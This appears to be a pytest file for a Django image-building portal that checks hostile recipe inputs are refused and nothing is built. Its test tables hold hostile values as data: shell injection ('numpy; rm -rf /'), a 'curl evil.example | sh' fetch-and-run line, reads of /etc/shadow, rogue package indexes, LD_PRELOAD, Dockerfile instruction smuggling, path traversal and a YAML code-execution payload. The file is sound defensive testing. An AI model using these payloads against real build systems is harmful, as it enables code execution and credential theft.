"""Hostile and broken recipes, sent as the page and as the command send them.

Each row is refused with its reason beside its field, and nothing is written, asked for or run.
"""

from __future__ import annotations

import io
import json
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import Client

from catalog.models import BuildPolicy, Image, Recipe
from catalog.tests.recipe_players import (
    count_everything,
    make_recipe,
    make_version,
    on_custom,
)
from catalog.tests.test_views_recipes import NEW, typed
from ds01portal.engine.fake import FakeEngine
from ds01portal.models import Operation, Person

pytestmark = [pytest.mark.django_db, pytest.mark.any_database]

MEGABYTE = 1024**2

# what is typed → (field with the reason, words of the reason)
# ruff: noqa: E501 - a row a line
TYPED: dict[str, tuple[dict[str, str], str, str]] = {
    # Another frontend, another instruction
    "a frontend in the name": ({"name": "#syntax=evil/front"}, "name", "lower case|not"),
    "a new line in the name": ({"name": "a\nRUN id"}, "name", "not"),
    "an instruction in a package": ({"requirements": "numpy\\\nRUN id"}, "requirements", ""),
    "a frontend in the packages": ({"requirements": "# syntax=evil/frontend\nx y"}, "requirements", ""),
    "a mount": ({"requirements": "--mount=type=secret,id=x numpy"}, "requirements", "--mount"),
    "a build secret as a file": ({"requirements": "file:///run/secrets/x"}, "requirements", ""),
    "an instruction in a variable": ({"environment": "A=1\nUSER 0\n"}, "environment", "2"),
    "a variable that ends its line": ({"environment": "A=1\r\nRUN id"}, "environment", "2"),
    # Another base
    "another base": ({"base": "reference", "base_reference": "evil.example/x:1"}, "base", "allowed"),
    "the hub": ({"base": "reference", "base_reference": "alpine"}, "base", "allowed"),
    "a base with an instruction": (
        {"base": "reference", "base_reference": "alpine\nRUN id"}, "base", ""),
    "a base by its digest": (
        {"base": "reference", "base_reference": f"alpine@sha256:{'a' * 64}"}, "base", "allowed"),
    "an image id as a base": ({"base": "reference", "base_reference": "49ba1f83ebb1"}, "base", ""),
    "somebody's engine name": (
        {"base": "reference", "base_reference": "ds01-200002/secret:1"}, "base", ""),
    "somebody's image": ({"base": "custom:bob/secret"}, "base", "no image|There is no"),
    "a framework that is none": ({"base": "catalog:evil::"}, "base", "no framework"),
    "a version that is gone": ({"base": "catalog:alpha:0.0.1:"}, "base", "There is no"),
    "no base": ({"base": ""}, "base", ""),
    "an unknown kind of base": ({"base": "scratch:x"}, "base", ""),
    # A shell in packages
    "a second command": ({"requirements": "numpy; rm -rf /"}, "requirements", "Line 1"),
    "a command in its place": ({"requirements": "$(id)"}, "requirements", "Line 1"),
    "a command in back quotes": ({"requirements": "`id`"}, "requirements", "Line 1"),
    "a pipe": ({"requirements": "numpy | sh"}, "requirements", "Line 1"),
    "a redirection": ({"requirements": "numpy > /etc/passwd"}, "requirements", "Line 1"),
    "a background job": ({"requirements": "numpy & id"}, "requirements", "Line 1"),
    "a variable of the builder": ({"requirements": "numpy==${PIP_INDEX_URL}"}, "requirements", ""),
    "a quote that is left open": ({"requirements": "numpy'"}, "requirements", "Line 1"),
    "a heredoc": ({"requirements": "<<EOF"}, "requirements", "Line 1"),
    "an option of pip": ({"requirements": "--target=/etc numpy"}, "requirements", "Line 1"),
    "another list": ({"requirements": "-r /etc/passwd"}, "requirements", "Line 1"),
    "constraints from a file": ({"requirements": "-c /etc/shadow"}, "requirements", "Line 1"),
    "an editable checkout": ({"requirements": "-e git+https://x.example/y"}, "requirements", "1"),
    "another index": ({"requirements": "--index-url https://evil.example"}, "requirements", "1"),
    "one more index": ({"requirements": "--extra-index-url=https://e.example"}, "requirements", "1"),
    "a trusted host": ({"requirements": "--trusted-host evil.example"}, "requirements", "1"),
    "a package by URL": ({"requirements": "x @ https://evil.example/x.whl"}, "requirements", "1"),
    "a package by git": ({"requirements": "git+ssh://git@evil.example/x"}, "requirements", "1"),
    "a local folder": ({"requirements": "./../../etc"}, "requirements", "Line 1"),
    "a local wheel": ({"requirements": "/workspace/evil.whl"}, "requirements", "Line 1"),
    "a marker that is none": ({"requirements": "numpy; os_name == system('id')"}, "requirements", "1"),
    "a hash that is none": ({"requirements": "numpy==1 --hash=md5:abc"}, "requirements", "Line 1"),
    "a NUL": ({"requirements": "num\0py"}, "requirements", ""),
    "a package twice, differently": ({"requirements": "numpy<2\nNumPy>=2"}, "requirements", "2"),
    "an own list with a shell": (
        {"jupyter": "own", "jupyter_packages": "jupyterlab; id"}, "jupyter_packages", ""),
    "a use case that is none": ({"use_case": "mining"}, "use_case", "no use case"),
    # Look-alikes
    "a Cyrillic o": ({"requirements": "t\u043erch"}, "requirements", "Line 1"),
    "a wide letter": ({"requirements": "\uff4eumpy"}, "requirements", "Line 1"),
    "text that runs backwards": ({"requirements": "numpy\u202egnp"}, "requirements", ""),
    "a space nobody sees": ({"requirements": "num\u200bpy"}, "requirements", "Line 1"),
    "a Cyrillic name": ({"name": "th\u0435sis"}, "name", ""),
    "a Greek system package": ({"apt": "gi\u03c4"}, "apt", ""),
    # System packages
    "a shell in a system package": ({"apt": "git && id"}, "apt", ""),
    "an option of apt": ({"apt": "-o=APT::Update::Pre-Invoke::=id"}, "apt", ""),
    "a package file": ({"apt": "./evil.deb"}, "apt", ""),
    "a removal": ({"apt": "libc6-"}, "apt", ""),
    "a pattern": ({"apt": "python3*"}, "apt", ""),
    # Variables
    "a preloaded library": ({"environment": "LD_PRELOAD=/workspace/x.so"}, "environment", "LD_"),
    "an audit library": ({"environment": "LD_AUDIT=/x.so"}, "environment", "LD_"),
    "all GPUs": ({"environment": "NVIDIA_VISIBLE_DEVICES=all"}, "environment", "NVIDIA"),
    "driver capabilities": ({"environment": "NVIDIA_DRIVER_CAPABILITIES=all"}, "environment", ""),
    "another index by variable": ({"environment": "PIP_INDEX_URL=https://e.example"}, "environment", ""),
    "another proxy": ({"environment": "https_proxy=http://evil.example"}, "environment", ""),
    "a start-up file of the shell": ({"environment": "BASH_ENV=/workspace/x"}, "environment", ""),
    "no name": ({"environment": "=x"}, "environment", ""),
    "a name with a shell in it": ({"environment": "A$(id)=x"}, "environment", ""),
    # Who may not
    "own shell lines": ({"post_install": "curl evil.example | sh"}, "post_install", "allowed"),
    # Names
    "a path as a name": ({"name": "../../etc"}, "name", ""),
    "somebody's name space": ({"name": "ds01-200002/x"}, "name", ""),
    "a tag as a name": ({"name": "thesis:latest"}, "name", ""),
    "a reserved name": ({"name": "latest"}, "name", ""),
    "a name too long": ({"name": "a" * 200}, "name", ""),
    # Too much
    "ten megabytes of packages": ({"requirements": "numpy\n" * (10 * MEGABYTE // 6)}, "requirements", ""),
    "a line without an end": ({"requirements": "x" * 70_000}, "requirements", ""),
    "a thousand variables": (
        {"environment": "\n".join(f"A{n}=1" for n in range(1000))}, "environment", ""),
}  # fmt: skip

# name of the file, its content → words of the reason
UPLOADED: dict[str, tuple[str, bytes, str]] = {
    "a path that climbs": ("../../../etc/cron.d/requirements.txt", b"-r x", ""),
    "an archive": ("requirements.zip", b"PK\x03\x04../../evil", "archive"),
    "a tape archive": ("requirements.tar.gz", b"\x1f\x8b", "archive"),
    "ten megabytes": ("requirements.txt", b"numpy\n" * (10 * MEGABYTE // 6), "large|64"),
    "no text": ("requirements.txt", b"\xff\xfe\x00numpy", ""),
    "NULs": ("requirements.txt", b"numpy\0\n", ""),
    "a program": ("evil.sh", b"#!/bin/sh\nid\n", ""),
    "an alias bomb": (
        "environment.yml",
        b"a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a]\ndependencies: [*b,*b,*b]\n",
        "",
    ),
    "an object of Python": ("environment.yml", b"!!python/object/apply:os.system ['id']", ""),
    "no table": ("pyproject.toml", b"[[[", ""),
}


@pytest.fixture(autouse=True)
def machine(settings: Any, catalogue: list[Image], fake_engine: FakeEngine) -> FakeEngine:
    """A small catalogue, an engine in memory, room on the disk."""
    settings.MLC_ARCH = "CUDA_ADA"
    BuildPolicy.objects.update_or_create(pk=1, defaults={"free_disk_floor_bytes": 0})
    return fake_engine


@pytest.fixture
def browser(alice: Person, bob: Person, machine: FakeEngine) -> Client:
    """Alice's browser; bob has an image that is his alone."""
    make_version(make_recipe(bob, "secret"), machine)
    client = Client()
    client.force_login(alice)
    return client


def has_words(text: str, words: str) -> bool:
    """Tell whether one of the alternatives stands in the text."""
    return any(word.lower() in text.lower() for word in words.split("|"))


@pytest.mark.parametrize("row", TYPED)
def test_what_is_typed_is_refused_with_its_reason_and_nothing_is_built(
    row: str, browser: Client, machine: FakeEngine
) -> None:
    changes, field, words = TYPED[row]
    before = count_everything()

    answer = browser.post(NEW, typed(action="build", **changes))

    if answer.status_code == 400:  # more than any form may send: refused before it is read
        assert len(str(changes)) > MEGABYTE
    else:
        assert answer.status_code == 422
        errors = answer.context["form"].errors
        reason = " ".join(
            " ".join(map(str, told)) for name, told in errors.items() if name.startswith(field)
        )
        assert reason, f"no reason beside {field}: {errors}"
        assert has_words(reason, words), reason
    assert count_everything() == before
    assert not Operation.objects.exists()
    assert machine.steps == []


@pytest.mark.parametrize("row", UPLOADED)
def test_what_is_uploaded_is_refused_with_its_reason_and_nothing_is_kept(
    row: str, browser: Client, machine: FakeEngine
) -> None:
    name, content, words = UPLOADED[row]
    before = count_everything()
    sent = {**typed(action="build"), "requirements": ""}

    answer = browser.post(NEW, {**sent, "requirements_file": SimpleUploadedFile(name, content)})

    assert answer.status_code == 422, answer
    told = " ".join([*answer.context["notes"], str(answer.context["form"].errors)])
    assert has_words(told, words), told
    assert count_everything() == before
    assert machine.steps == []


@pytest.mark.parametrize(
    "row",
    [
        row
        for row in TYPED
        if set(TYPED[row][0]) == {"requirements"} and "\0" not in str(TYPED[row][0])
    ],
)
def test_the_command_refuses_the_same_packages(row: str, alice: Person, tmp_path: Any) -> None:
    """Scripts come by the same door; the answer is typed and the exit code is 1."""
    text = TYPED[row][0]["requirements"]
    path = tmp_path / "requirements.txt"
    path.write_text(text, newline="")
    before = count_everything()
    out = io.StringIO()

    with pytest.raises(CommandError) as refused:
        call_command(
            "build_image", "alice", "thesis", "--framework", "alpha", "--version", "2.1.0",
            "--requirements", str(path), "--json", stdout=out,
        )  # fmt: skip

    assert refused.value.returncode == 1
    error = json.loads(out.getvalue())["error"]
    assert error["code"] and error["message"]
    assert count_everything() == before
    assert not Operation.objects.exists()


class TestWhatNeedsMoreThanOneRow:
    def test_a_recipe_on_itself(self, browser: Client, alice: Person, machine: FakeEngine) -> None:
        recipe = make_recipe(alice, "ring")
        make_version(recipe, machine)
        self.refuse(browser, recipe, "custom:alice/ring", "itself|circle")

    def test_two_recipes_on_each_other(
        self, browser: Client, alice: Person, machine: FakeEngine
    ) -> None:
        first, second = make_recipe(alice, "first"), make_recipe(alice, "second")
        make_version(first, machine)
        make_version(second, machine)
        Recipe.objects.filter(pk=second.pk).update(content=on_custom("alice/first"))
        self.refuse(browser, first, "custom:alice/second", "first|circle")

    def test_a_base_that_vanished_from_the_engine(
        self, browser: Client, alice: Person, machine: FakeEngine
    ) -> None:
        below = make_version(make_recipe(alice, "below"), machine)
        machine.remove_image("ds01-200001/below:latest")
        machine.remove_image(below.reference)
        self.refuse(
            browser, make_recipe(alice, "above"), "custom:alice/below", "not on this machine"
        )

    def test_a_base_that_loads_code_into_every_program(
        self, browser: Client, alice: Person, machine: FakeEngine
    ) -> None:
        below = make_recipe(alice, "below")
        make_version(below, machine, environment={"LD_PRELOAD": "/opt/x.so"})
        self.refuse(browser, make_recipe(alice, "above"), "custom:alice/below", "LD_PRELOAD")

    def refuse(self, browser: Client, recipe: Recipe, base: str, words: str) -> None:
        before = count_everything()

        page = f"/images/mine/{recipe.pk}/edit/"
        answer = browser.post(page, typed(action="build", base=base))

        assert answer.status_code == 422
        reason = str(answer.context["form"].errors.get("base", ""))
        assert has_words(reason, words), answer.context["form"].errors
        assert count_everything() == before
        assert not Operation.objects.exists()
